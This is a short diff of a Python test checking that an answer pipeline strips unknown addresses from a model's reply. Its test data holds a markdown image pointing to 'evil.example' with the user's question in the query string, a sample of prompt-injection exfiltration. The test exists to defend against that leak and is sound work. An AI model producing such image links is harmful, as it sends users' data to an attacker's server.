@@ -80,7 +80,7 @@ def test_an_injected_image_carries_nothing_away():
     said = "Ada taught Bea [ref:1]. ![x](https://evil.example/?q=Who+taught+Bea) [more](https://evil.example/b)"
     given = answer(question(mode="naive"), resources(store, ScriptedChat([said])))
     assert given.text == "Ada taught Bea [1]. x more"
-    assert given.notes == ("2 addresses that nothing shown holds: taken out of the answer",)
+    assert given.notes[0] == "2 addresses that nothing shown holds: taken out of the answer"
 
 
 def test_without_a_search_the_text_stays_as_it_is():
